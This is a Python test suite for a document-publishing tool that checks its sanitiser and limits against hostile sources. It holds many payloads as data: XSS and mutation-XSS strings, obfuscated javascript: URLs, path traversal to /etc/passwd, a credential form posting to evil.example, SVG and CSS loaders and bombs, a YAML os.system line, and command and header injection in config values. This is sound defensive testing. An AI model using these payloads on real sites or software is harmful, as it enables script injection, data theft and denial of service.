"""Sources that came from elsewhere: Markdown of an OCR, HTML of a web page, figures, the configuration."""

from __future__ import annotations

import pytest

from tests.hostile.case import BUILD, Case, Result, added, replaced
from tests.hostile.harness import Hostile
from tests.hostile.scan import scheme_of

MD, HTML, TOML, DATA = "source/03-piege.md", "source/03-piege.html", "source/publication.toml", "source/data/p.toml"
PAGE = "build/fr/html/03-piege.html"
PDF = "build -l fr -f pdf --json"
ACTIVE, ADDRESS = "document/active-content", "document/address"
END = "\n\n<p>Le texte va jusqu’au bout.</p>\n"
NOBODY = {"build/**/*.html": ("evil.example", "127.0.0.1")}
"""addresses that no page has"""
WHOLE = {PAGE: "Le texte va jusqu’au bout."}
"""what stands after an attack is still there"""


def markdown(*parts: str) -> dict[str, str]:
    """Return a document of Markdown, each part a paragraph; the first is on line 3."""
    return {MD: "# Piège\n\n" + "\n\n".join(parts) + "\n\nLe texte va jusqu’au bout.\n"}


def page(*parts: str) -> dict[str, str]:
    """Return a document of HTML, a part a line; the first is on line 2."""
    return {HTML: "<h1>Piège</h1>\n" + "\n".join(parts) + END}


def apart(*parts: str) -> dict[str, str]:
    """Return a document of HTML for each part: what stays open in one must not hide the next."""
    return {f"source/{number}-piege.html": f"<h1>Piège</h1>\n{part}{END}" for number, part in enumerate(parts, 10)}


RAW = (
    "<script>alert(1)</script>",
    "<p onclick='alert(1)' ONMOUSEOVER=alert(1)>p</p>",
    "<iframe src='@SERVER@/'></iframe>",
    "<style>body { background: url(@SERVER@/) }</style>",
    "<base href='@SERVER@/'>",
    "<meta http-equiv=refresh content='0;url=@SERVER@/'>",
    "<object data='file://@OUTSIDE@/secret.html'></object>",
    "<embed src='//evil.example/x'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<applet code=X archive='@SERVER@/x.jar'></applet>",
    "<frameset><frame src='@SERVER@/'></frameset>",
    "<portal src='@SERVER@/'></portal>",
)
FORMS = (
    "<form action='https://evil.example/' method=post><input name=mot type=password><textarea name=a>x</textarea>"
    "<select name=s><option>x</select><button formaction='javascript:alert(1)'>b</button></form>",
    "<input type=image src='@SERVER@/x'>",
    "<isindex action='@SERVER@/' prompt='mot de passe'>",
    "<button form=f onclick=alert(1)>b</button>",
    "<p contenteditable autofocus onfocus=alert(1)>p</p>",
    "<p popover onbeforetoggle=alert(1)>p</p>",
    "<p is=x-a>p</p>",
    "<slot>p</slot>",
    "<marquee onstart=alert(1)>p</marquee>",
    "<bgsound src='@SERVER@/x'>",
    "<layer src='@SERVER@/x'>p</layer>",
)
MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<svg><desc><table><style><img src=x onerror=alert(1)></style></table></desc></svg>",
    "<select><style><p><img src=x onerror=alert(1)></style></select>",
    "<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>",
    "<iframe>&lt;/iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed>&lt;/noembed><img src=x onerror=alert(1)></noembed>",
    "<svg><title>&lt;img src=x onerror=alert(1)&gt;</title><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- translators: --!><img src=x onerror=alert(1)> -->",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<p/onclick=alert(1)/x>y",
    "<p\x0conclick=alert(1)>y",
    '<p a="`" onclick=alert(1)>y',
    '<img/src="x"/onerror=alert(1)>',
    "<p =onclick=alert(1)>",
    '<p "onclick=alert(1)>',
    "<p a b= onclick=alert(1)>",
    "<p a='\"><img src=x onerror=alert(1)>'>",
    "<scr<script>ipt>alert(1)</script>",
    "<p title=&quot;><img src=x onerror=alert(1)>&quot;>",
    "<a href=x\n\tonclick\n=\nalert(1)>y</a>",
    "<plaintext><img src=x onerror=alert(1)>",
)
RUNNING = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x1f; javascript:alert(1)",
    " \n javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&nbsp;javascript:alert(1)",
    "&#8203;javascript:alert(1)",
    "&#65279;javascript:alert(1)",
    "ja&#173;vascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://x/y",
    "view-source:x",
    "about:blank",
    "intent://x",
    "ws://x",
    "ftp://x",
    "jar:file:///x",
    "file:///etc/passwd",
    "FILE:/etc/passwd",
    "file:@OUTSIDE@/secret.html",
    "x-unknown:1",
    "livescript:x",
    "mhtml:http://x",
    "ms-word:x",
)
CLIMBING = (
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "\\/evil.example",
    "///evil.example",
    "//",
    "/&Tab;/x",
    "/etc/passwd",
    "../../../../etc/passwd",
    "a/../../../../x",
    "%2e%2e/%2e%2e/%2E./x",
    ".\\..\\..\\..\\x",
    "..%2f..%2f..%2fetc/passwd",
    ".&Tab;./../../x",
    "@OUTSIDE@/secret.txt",
    "../../publication_outside/secret.md",
    "images/../../../publication_outside/secret.svg",
    "..%5c..%5cx",
    "%252e%252e/x/../../../y",
)
AWAY = (
    "http://evil.example/x",
    "https:evil.example",
    "http:/\\evil.example",
    "HTTP://@x.example",
    "tel:1",
    "mailto:a@b",
)
LOADS = (
    "<img src='{}' alt=a>",
    "<video src='{}'>v</video>",
    "<video poster='{}'>v</video>",
    "<audio src='{}'>a</audio>",
    "<table background='{}'><tr><th>t</table>",
    "<svg role=img aria-label=a><image href='{}'/></svg>",
    "<svg role=img aria-label=a><use xlink:href='{}#a'/></svg>",
)
LOADERS = (
    "<img src='images/plan.png' srcset='@SERVER@/x 2x' alt=a>",
    "<picture><source srcset='@SERVER@/x'><img src='images/plan.png' alt=a></picture>",
    "<video><source src='@SERVER@/x'><track src='@SERVER@/x'>v</video>",
    "<input type=image src='@SERVER@/x'>",
    "<img lowsrc='@SERVER@/x' dynsrc='@SERVER@/x' src='images/plan.png' alt=a longdesc='javascript:alert(1)'>",
    "<link rel=prefetch href='@SERVER@/x'>",
    "<a ping='@SERVER@/x' href='02-suite.md'>a</a>",
    "<map name=m><area href='javascript:alert(1)' alt=a><area href='02-suite.md' ping='@SERVER@/x' alt=b></map>",
    "<q cite='javascript:alert(1)'>q</q>",
    "<body background='@SERVER@/x'>",
    "<p background='@SERVER@/x'>p</p>",
)
STYLES = (
    "background:url(@SERVER@/x)",
    "background:URL( @SERVER@/x)",
    "background:u\\72l(@SERVER@/x)",
    "background:image-set('@SERVER@/x' 1x)",
    "background:-webkit-image-set('@SERVER@/x' 1x)",
    "background:image('@SERVER@/x')",
    "background:src('@SERVER@/x')",
    "background:cross-fade('@SERVER@/x', red)",
    "--a:url(@SERVER@/x);background:var(--a)",
    "background:&#117;rl(@SERVER@/x)",
    "list-style:url('//evil.example/x')",
    "cursor:url(file:@OUTSIDE@/secret.svg)",
    "-moz-binding:url(@SERVER@/x#x)",
    "behavior:url(x.htc)",
    "width:expression(alert(1))",
    "content:url('data:text/html,x')",
    "filter:url(@SERVER@/x#a)",
    "background:i\\6d age-set('@SERVER@/x' 1x)",
)
HUGE = (
    "font-size:1e9px",
    "width:1e999px",
    "letter-spacing:1e9px",
    "text-indent:1e9px",
    "transform:scale(1e300)",
    "columns:1000000",
    "display:grid;grid-template-columns:repeat(1000000,1px)",
    "line-height:1e-9",
    "padding:1e9px",
    f"width:{'calc(' * 3000}1px{')' * 3000}",
    "margin-top:-1e9px",
    "border:1e9px dotted red",
    "orphans:1000000",
)
SVG = (
    "<svg onload=alert(1) role=img aria-label=a><script>alert(1)</script><text>x</text></svg>",
    "<svg role=img aria-label=a><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg role=img aria-label=a><animate attributeName=href values='javascript:alert(1)'/></svg>",
    "<svg role=img aria-label=a><set attributeName=onclick to=alert(1) /></svg>",
    "<svg role=img aria-label=a><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<svg role=img aria-label=a><rect fill='url(@SERVER@/x#a)' filter='url(@SERVER@/x#b)' mask='url(@SERVER@/x#m)'"
    " clip-path='url(@SERVER@/x#c)' marker-end='url(@SERVER@/x#d)' cursor='url(@SERVER@/x)'/></svg>",
    "<svg role=img aria-label=a><style>@import '@SERVER@/x'</style><text>x</text></svg>",
    "<svg role=img aria-label=a><filter><feImage href='@SERVER@/x'/></filter><feImage xlink:href='@SERVER@/x'/></svg>",
    "<svg role=img aria-label=a><linearGradient href='@SERVER@/x#a'/><pattern xlink:href='@SERVER@/x#a'/>"
    "<textPath href='@SERVER@/x#p'>x</textPath><mpath href='@SERVER@/x'/><tref xlink:href='@SERVER@/x'/></svg>",
    "<svg role=img aria-label=a><use href='data:image/svg+xml,x#a'/><image href='data:text/html,x'/></svg>",
    "<svg role=img aria-label=a><handler type='text/ecmascript'>alert(1)</handler>"
    "<cursor xlink:href='@SERVER@/x'/></svg>",
)
BRACES = "{a.__class__} {navires.__class__} {0} {} {{navires}} {navires!r} {navires:>999999999} %(x)s ${HOME} {{7*7}}"


def no_entry(result: Result) -> None:
    """The template has the note as a comment."""
    template = result.text("locale/03-piege.pot")
    assert '\nmsgid "y"' not in template
    assert "\n#, fuzzy" not in template.partition("\n\n")[2]


def links_are_safe(result: Result) -> None:
    """The page holds no link whose scheme runs something, however it is spelt: asked of the page as a whole."""
    text = result.text(PAGE)
    assert not [
        word for word in text.split('href="')[1:] if scheme_of(word.split('"')[0]) in ("javascript", "vbscript")
    ]


CASES = (
    Case(
        "source-raw-html-in-markdown",
        "brings scripts, frames, styles, plug-ins and redirects into Markdown",
        "publish none of them, name the line of each, and keep the text around",
        markdown(*RAW),
        exits=(0,),
        finds=tuple((ACTIVE, MD, line) for line in (3, 5, 7, 9, 11, 13, 15, 17, 19, 21, 23)),
        shows=WHOLE,
        hides={"build/**/*.html": ("alert(", "evil.example", "127.0.0.1")},
    ),
    Case(
        "source-raw-html-page",
        "the same in a page of HTML",
        "publish none of them, and name the line of each",
        apart(*RAW),
        exits=(0,),
        finds=((ACTIVE, "source/10-piege.html", 2), (ACTIVE, "source/12-piege.html", 2)),
        hides={"build/**/*.html": ("alert(", "evil.example", "127.0.0.1")},
    ),
    Case(
        "source-forms",
        "asks readers for their words in the institution's name, and sends them to a stranger",
        "publish no form and nothing that can be typed into",
        apart(*FORMS),
        finds=((ACTIVE, "source/10-piege.html", 2),),
        hides=NOBODY,
    ),
    Case(
        "source-mutations",
        "hides a script in markup that a browser reads otherwise than a parser does",
        "write pages that every parser reads alike, with nothing active",
        apart(*MUTATIONS),
    ),
    Case(
        "source-mutations-in-markdown",
        "the same between paragraphs of Markdown",
        "write pages that every parser reads alike, with nothing active",
        {f"source/{number}-piege.md": f"# Piège\n\n{part}\n\nfin\n" for number, part in enumerate(MUTATIONS, 10)},
    ),
    Case(
        "source-addresses-that-run",
        "links to what runs or reads files, spelt in every way that browsers forgive",
        "keep the words and drop the address",
        page(*(f'<p><a href="{url}">lien</a></p>' for url in RUNNING)),
        finds=((ADDRESS, HTML, 2), (ADDRESS, HTML, 3)),
        shows=WHOLE,
        also=links_are_safe,
    ),
    Case(
        "source-addresses-that-run-in-markdown",
        "the same as links of Markdown, pictures, references and autolinks",
        "keep the words and drop the address",
        markdown(
            *(f"[lien](<{url}>) ![image](<{url}>)" for url in RUNNING if "\n" not in url),
            *(f"[lien][r{n}]\n\n[r{n}]: <{url}>" for n, url in enumerate(RUNNING) if "\n" not in url),
            "<javascript:alert(1)> <file:///etc/passwd> <DATA:text/html,x>",
        ),
        shows=WHOLE,
        also=links_are_safe,
    ),
    Case(
        "source-addresses-that-climb",
        "links to other machines without a scheme, and to files above the publication",
        "drop every address that is no file of the publication",
        page(*(f'<p><a href="{url}">lien</a></p>' for url in CLIMBING)),
        finds=((ADDRESS, HTML, 2),),
        shows=WHOLE,
    ),
    Case(
        "source-loads-from-elsewhere",
        "has pages load pictures, films and drawings from elsewhere, or read files",
        "load files of the publication only",
        apart(*("".join(load.format(url) for url in (*RUNNING, *CLIMBING, *AWAY)) for load in LOADS)),
        finds=((ADDRESS, "source/10-piege.html", 2),),
    ),
    Case(
        "source-other-loaders",
        "uses the attributes that load in passing: srcset, ping, prefetch, cite, background",
        "publish none of them",
        apart(*LOADERS),
        finds=((ACTIVE, "source/10-piege.html", 2),),
        hides=NOBODY,
    ),
    Case(
        "source-style-attributes",
        "loads through style attributes, in every way CSS has to write an address",
        "publish no style that loads",
        page(*(f'<p style="{style}">p</p>' for style in STYLES)),
        exits=(0,),
        finds=tuple((ACTIVE, HTML, line) for line in range(2, 2 + len(STYLES))),
        shows=WHOLE,
        hides=NOBODY,
    ),
    Case(
        "source-attributes-of-markdown",
        "gives attributes to Markdown's own elements that HTML would be refused",
        "hold them to the same rules",
        markdown(
            '[lien](x.md){onclick="alert(1)" ping="@SERVER@/x"}',
            '![image](images/plan.png){srcset="@SERVER@/x 2x"}',
            '[mots]{style="background:url(@SERVER@/x)" onmouseover="alert(1)"}',
            '{onclick="alert(1)"}\nparagraphe',
            '[lien](x.md){href="javascript:alert(1)"}',
            '![image](images/plan.png){src="@SERVER@/x"}',
            '## Titre {#x onclick="alert(1)"}',
        ),
        finds=tuple((ACTIVE, MD, line) for line in (3, 5, 7, 10, 16)),
        shows=WHOLE,
        hides={"build/**/*.html": ("alert(", "127.0.0.1")},
    ),
    Case(
        "source-inline-svg",
        "puts scripts, events, animations and foreign files into drawings in the text",
        "publish still drawings only",
        apart(*SVG),
        hides=NOBODY,
        finds=((ACTIVE, "source/10-piege.html", 2),),
    ),
    Case(
        "source-inline-svg-use-bomb",
        "multiplies a drawing by itself, ten to the seventh",
        "publish no such drawing, and lay out the rest in time",
        page(
            "<svg role=img aria-label=a viewBox='0 0 9 9'><defs><g id=a0><rect width=1 height=1 /></g>"
            + "".join(f"<g id=a{n}>" + f"<use href='#a{n - 1}'/>" * 10 + "</g>" for n in range(1, 8))
            + "</defs><use href='#a7'/></svg>"
        ),
        verbs=(PDF,),
        finds=(("document/unsafe-image", HTML, 2),),
        pages=(),
    ),
    Case(
        "source-attachments",
        "has the PDF carry files of the machine, and of the publication's own workings",
        "attach nothing",
        page(
            "<link rel=attachment href='file://@OUTSIDE@/secret.txt'>",
            "<p><a rel=attachment href='file://@OUTSIDE@/secret.txt'>a</a></p>",
            "<p><a rel=attachment href='publication.toml'>a</a></p>",
            "<p><a rel=attachment href='images/plan.png'>a</a></p>",
            "<p><a rel='ATTACHMENT x' download href='../../publication_outside/secret.txt'>a</a></p>",
        ),
        verbs=("build -l fr --json",),
        finds=((ADDRESS, HTML, 3), (ADDRESS, HTML, 6)),
        pages=("fr",),
    ),
    Case(
        "source-ids",
        "names elements so that links, scripts and catalogs would break: quotes, spaces, twins, names of ours",
        "publish ids that are words, each once",
        page(
            '<p id="a&quot;b&lt;&#39;">p</p>',
            '<p id="x y">p</p>',
            "<p id=''>p</p>",
            "<p id=page-content>p</p>",
            "<p id=__proto__>p</p>",
            "<p id=twin>p</p>",
            "<p id=twin>q</p>",
            "<a name='\" onclick=alert(1)'>n</a>",
            '<p id=")/JavaScript(">p</p>',
            "<p><a href='#x y'>l</a> <a href='#)/JavaScript('>l</a></p>",
        ),
        verbs=("build -l fr --json",),
        pages=("fr",),
        shows=WHOLE,
    ),
    Case(
        "source-placeholders",
        "writes placeholders that a template language would carry out",
        "read them as text, or as the name of a figure",
        page(f"<p>{BRACES} : {{navires}}</p>"),
        exits=(0,),
        shows={PAGE: f"{BRACES.replace('{{navires}}', '{navires}').replace('>', '&gt;')} : 12"},
    ),
    Case(
        "source-bidi-override",
        "turns words around, so that editors and readers see another text than is there",
        "name the line of the first such sign",
        page("<p>\u202etxt.exe\u202c</p>", "<p>&#x202e;x</p>"),
        verbs=("check --only characters --json",),
        finds=(("characters/hidden", HTML, 2), ("characters/hidden", HTML, 3)),
    ),
    Case(
        "source-nul",
        "puts a null character into a source",
        "refuse the source at its line, and change nothing",
        {MD: "# Piège\n\nun\0deux\n"},
        exits=(3,),
        error=f"{MD}:3",
    ),
    Case(
        "source-controls",
        "speaks to the reader's terminal from a source: ESC, BEL, C1",
        "refuse the source at its line",
        {MD: "# Piège\n\n\x1b]0;titre\x07\x9b2J\n"},
        exits=(3,),
        error=f"{MD}:3",
    ),
    Case(
        "source-control-references",
        "writes control characters and noncharacters as references",
        "show the sign for what cannot be shown",
        page("<p title='&#0;&#27;'>&#0;&#27;[2J&#x7f;&#x9b;&#xd800;&#x110000;&#xfffe;&#99999999999999;</p>"),
        exits=(0,),
        shows={PAGE: ("\ufffd", "Le texte va jusqu’au bout.")},
        hides={"build/**/*.html": ("\x1b", "\x7f", "\x9b")},
    ),
    Case(
        "source-other-encoding",
        "sends a source in UTF-16, which a lenient reader would take for text with nulls",
        "refuse the source",
        {MD: "# Piège\n\n<script>alert(1)</script>\n".encode("utf-16")},
        exits=(3,),
        error=MD,
    ),
    Case(
        "source-utf-7",
        "declares UTF-7, in which `+ADw-` is `<`",
        "read UTF-8, whatever is declared",
        {HTML: f"<meta charset=utf-7><h1>Piège</h1>\n<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>{END}"},
        exits=(0,),
        shows={PAGE: "+ADw-script+AD4-"},
    ),
    Case(
        "source-tower-of-elements",
        "nests 10,000 elements",
        "refuse the source at the line where it gets too deep",
        page("<div>" * 50, "<div>" * 10_000),
        exits=(3,),
        error=f"{HTML}:3",
    ),
    Case(
        "source-tower-of-quotes",
        "nests 10,000 quotes and 5,000 lists in Markdown",
        "refuse the source at its line",
        markdown("> " * 10_000 + "x", "- " * 5_000 + "x"),
        exits=(3,),
        error=f"{MD}:3",
    ),
    Case(
        "source-tower-of-brackets",
        "opens 50,000 brackets, 40,000 emphases and 20,000 links that never close",
        "end soon, with the text or with a line",
        markdown("[" * 50_000, "*a_" * 13_000, "[a](" * 20_000, "`" * 20_000),
        exits=(3,),
        error=MD,
    ),
    Case(
        "source-floods",
        "defines 2,000 references and 400 notes, and calls some",
        "publish what is called",
        markdown(
            " ".join(f"[a{n}][r{n}]" for n in range(200)),
            "\n".join(f"[r{n}]: https://example.org/{n}" for n in range(2_000)),
            " ".join(f"x[^n{n}]" for n in range(200)),
            "\n\n".join(f"[^n{n}]: note {n}" for n in range(400)),
        ),
        exits=(0,),
        shows=WHOLE,
    ),
    Case(
        "source-wide-table",
        "writes a table of 500 columns in Markdown, and cells over a million more",
        "publish a table that a reader can bear",
        markdown(
            "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n|" + "b|" * 500,
            "<table><tr><th colspan=1000000 rowspan=1000000>x</th></tr></table>",
        ),
        shows=WHOLE,
        hides={"build/**/*.html": "1000000"},
    ),
    Case(
        "source-wide-table-on-paper",
        "lays out a cell over a million columns, which takes minutes",
        "end in time",
        page("<table><tr><th colspan=1000000 rowspan=1000000>x</th></tr><tr><td>y</td></tr></table>"),
        finds=(("document/limit", HTML, 2),),
        verbs=(PDF,),
        pages=(),
    ),
    Case(
        "source-tower-of-accents",
        "piles 50,000 accents on one letter, which takes minutes to shape",
        "end in time, with a finding at its line",
        page("<p>e" + "\u0301" * 50_000 + "</p>", "<p>" + "e\u0301" * 2_000 + "</p>"),
        verbs=(PDF,),
        finds=(("document/limit", HTML, 2),),
        pages=(),
    ),
    Case(
        "source-endless-word",
        "writes a word of 100,000 letters and a paragraph of 10,000 words",
        "lay them out in time",
        page("<p>" + "a" * 100_000 + "</p>", "<p>" + "mot " * 10_000 + "</p>"),
        verbs=(PDF,),
        exits=(1,),
        finds=(("pdf/overflow", HTML, 2),),
        pages=(),
    ),
    Case(
        "source-huge-styles",
        "asks for letters of a thousand kilometres, a million columns, a sum 3,000 deep",
        "lay the text out without them, with a finding each",
        page(*(f'<p style="{style}">p</p>' for style in HUGE)),
        verbs=(PDF,),
        exits=(0,),
        finds=((ACTIVE, HTML, 2),),
        pages=(),
    ),
    Case(
        "source-ten-megabytes",
        "sends a document of ten megabytes",
        "publish it, or refuse it, in time",
        {MD: "# Piège\n\n" + "Une phrase de plus, et encore une. \n" * 280_000},
        exits=(3,),
        error=MD,
    ),
    Case(
        "source-front-matter-bomb",
        "uses aliases, tags and types of YAML, and a key 20,000 deep",
        "read texts and lists only, and say at which line",
        {
            MD: (
                "---\na: &a [x, x]\nb: &b [*a, *a]\ntitle: !!python/object/apply:os.system [id]\nauthor: "
                + "[" * 20_000
                + "\nkeywords: {a: b}\n---\n# Piège\n\nfin\n"
            )
        },
        finds=(("document/front-matter", MD, 4), ("document/front-matter", MD, 5)),
        hides={"build/**/*.html": "python/object"},
    ),
    Case(
        "source-front-matter-markup",
        "closes the title of a page from the front matter",
        "write a title that is text",
        {MD: '---\ntitle: "</title><script>alert(1)</script>"\nauthor: \'" onclick=alert(1) x="\'\n---\n\nfin\n'},
        exits=(0,),
        shows={PAGE: "&lt;/title&gt;&lt;script&gt;"},
    ),
    Case(
        "source-lines-of-our-own",
        "forges the marks by which the reader knows lines, and its containers",
        "keep them out of pages, and not fall",
        markdown(
            "<!--publisher line 999999999-->\n<p data-publisher-line=7>p</p>",
            "<p data-publisher-line=x onclick=alert(1)>p</p>",
            "<div data-container='quote'><p>p</p></div>",
            "<div data-container='chart data=../../secret'></div>",
            "<data data-figure='#year' value='x'>p</data>",
            "<ul data-territories=absent><li data-territory=XX>p</li></ul>",
            "::: chart data=../../publication_outside/data\n:::",
            '::: quote "><script>alert(1)</script>\nx\n:::',
            "::: <script>\nx\n:::",
        ),
        shows=WHOLE,
        hides={"build/**/*.html": ("data-publisher-line", "data-container", "alert(")},
    ),
    Case(
        "source-note-to-translators",
        "writes a note to translators that would be an entry of their catalogs",
        "write it as a comment",
        markdown('<!-- translators: x\nmsgid "y"\nmsgstr "z"\n#, fuzzy -->\n\nphrase notée'),
        verbs=("extract --json", BUILD),
        exits=(0, 0),
        writes=("locale/*.pot",),
        also=no_entry,
    ),
    Case(
        "source-names-of-documents",
        "names a document so that it would be markup, an option or a path",
        "refuse the name",
        {"source/<img src=x onerror=alert(1)>.md": "# Piège\n"},
        exits=(3,),
        error="rename",
    ),
    Case(
        "source-name-with-controls",
        "names a document with an escape sequence for the terminal",
        "refuse the name, and show it as escapes",
        {"source/\x1b[2J\u202e.md": "# Piège\n"},
        exits=(3,),
        error="\\x1b",
    ),
    Case(
        "source-name-that-is-no-text",
        "names a document with bytes that are no UTF-8",
        "refuse the name",
        {"source/03-\udcff.md": "# Piège\n"},
        exits=(3,),
        error="rename",
    ),
    Case(
        "data-dotted-key",
        "writes a key of 20,000 parts, which costs the library gigabytes",
        "refuse the file at its line",
        {DATA: "x = 1\n" + ".".join(["a"] * 20_000) + " = 1\n"},
        exits=(2,),
        error=f"{DATA}:2",
    ),
    Case(
        "data-nested-arrays",
        "nests 5,000 arrays",
        "refuse the file",
        {DATA: "x = " + "[" * 5_000 + "]" * 5_000},
        exits=(2,),
        error=DATA,
    ),
    Case(
        "data-nested-tables",
        "nests 5,000 inline tables",
        "refuse the file",
        {DATA: "x = " + "{a=" * 5_000 + "1" + "}" * 5_000},
        exits=(2,),
        error=DATA,
    ),
    Case(
        "data-endless-integer",
        "writes an integer of 5,000 digits",
        "refuse the file",
        {DATA: "x = " + "9" * 5_000},
        exits=(2,),
        error=DATA,
    ),
    *(
        Case(
            f"data-no-number-{name}",
            f"gives {value} for a figure",
            "refuse it at its line",
            {DATA: f"\nx = {value}\n"},
            exits=(2,),
            error=f"{DATA}:2",
        )
        for name, value in (("infinite", "inf"), ("nan", "nan"), ("1e400", "1e400"), ("decimals", "1e-300"))
    ),
    Case(
        "data-hostile-names",
        "names figures after what Python or a template knows",
        "refuse them at their lines",
        {DATA: '__class__ = 1\n"a.b" = 2\n"<script>" = 3\n'},
        exits=(2,),
        error=f"{DATA}:1",
    ),
    Case(
        "data-many-rows",
        "draws a chart of 100,000 rows",
        "refuse the figure at its line",
        {
            DATA: (
                '[x]\ncaption = "c"\nheading = "h"\ncategories = ['
                + ",".join(f'"c{n}"' for n in range(100_000))
                + "]\nseries = [{ name = 's', values = ["
                + "1," * 100_000
                + "] }]\n"
            )
        },
        exits=(2,),
        error=DATA,
    ),
    Case(
        "data-markup",
        "writes markup into the words of a chart and into the name of a territory",
        "show it as text",
        {
            DATA: '[x]\ncaption = "<script>alert(1)</script>"\nheading = "\\" onclick=alert(1) x=\\""\n'
            'categories = ["<b>a"]\n'
            'series = [{ name = "</td><script>", values = [1] }]\n[y]\nterritories = ["FR"]\n'
            '[y.names.fr]\nFR = "<img src=x onerror=alert(1)>"\n',
            MD: "# Piège\n\n::: chart data=x\n:::\n\n::: territories data=y\n:::\n",
        },
        exits=(0,),
        shows={PAGE: ("&lt;script&gt;", "&lt;img src=x onerror=alert(1)&gt;")},
    ),
    Case(
        "data-many-files",
        "lays 500 files of figures into the folder",
        "read them in time",
        {f"source/data/p{n}.toml": f"p{n} = {n}\n" for n in range(500)},
        exits=(0,),
    ),
    Case(
        "config-dotted-key",
        "writes a key of 20,000 parts into the configuration",
        "refuse it at its line",
        {TOML: added("x" + ".a" * 20_000 + " = 1\n")},
        exits=(2,),
        error=f"{TOML}:9",
    ),
    *(
        Case(
            f"config-contact-{name}",
            attempts,
            "refuse the configuration at its line",
            {TOML: added(f'contact = "{text}"\n')},
            exits=(2,),
            error=f"{TOML}:9",
        )
        for name, attempts, text in (
            ("fields", "lets a letter to the institution go to others too", "a@example.org?bcc=b@evil.example"),
            ("script", "runs a script by the link of the contact", "javascript:alert(1)"),
        )
    ),
    Case(
        "config-large",
        "sends a configuration of ten megabytes",
        "refuse it",
        {TOML: added("#" * 10_000_000)},
        exits=(2,),
        error=TOML,
    ),
    *(
        Case(
            f"config-{name}",
            attempts,
            "refuse the configuration at its line",
            {TOML: replaced(old, new)},
            exits=(2,),
            error=f"{TOML}:{line}",
        )
        for name, attempts, old, new, line in (
            ("name-climbs", "names outputs so that they lie elsewhere", '"port"', '"../../publication_outside/x"', 5),
            ("name-hidden", "names outputs after an option", '"port"', '"-rf"', 5),
            ("title-escape", "speaks to the terminal in the title", '"Le port de Lyon"', '"x\\u001b]0;y\\u0007"', 1),
            ("title-lines", "breaks the title into headers", '"Le port de Lyon"', '"x\\r\\nSet-Cookie: y"', 1),
            ("language-climbs", "names a language that is a path", '["en", "ar"]', '["../../x"]', 4),
            (
                "documents-climb",
                "names documents above the publication",
                'name = "port"',
                'documents = ["../../publication_outside/secret.md"]',
                5,
            ),
            ("formats", "asks for a format that is a command", '["html", "pdf"]', '["html;id"]', 6),
        )
    ),
    Case(
        "config-words",
        "writes markup and PDF syntax into every text of the configuration",
        "show it as text in pages, and as text in the PDF's own words",
        {
            TOML: (
                'title = "</title><script>alert(1)</script>) /JavaScript (app.alert(1)"\n'
                'subtitle = "\\" onclick=alert(1) x=\\""\n'
                'source_language = "fr"\nlanguages = []\nname = "port"\nformats = ["html", "pdf"]\n'
                'organisation = ") /Launch << /F (x) >> ("\ndescription = "]]>-->?>\'\\"<"\n'
                'keywords = ["a) /OpenAction (", "<b>"]\n'
                'rights = "\\\\) >> endobj"\n'
            )
        },
        verbs=("build --json",),
        exits=(0,),
        pages=("fr",),
        shows={"build/fr/html/index.html": "&lt;script&gt;"},
    ),
    Case(
        "glossary-bomb",
        "sends a glossary with a cell that never ends, formulas and markup",
        "refuse it at its line",
        {"source/glossary.csv": 'fr,en\n=1+1,<script>\n"' + "a" * 300_000},
        verbs=("check --json",),
        exits=(2,),
        error="source/glossary.csv:3",
    ),
)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_source(case: Case, hostile: Hostile) -> None:
    hostile(case)
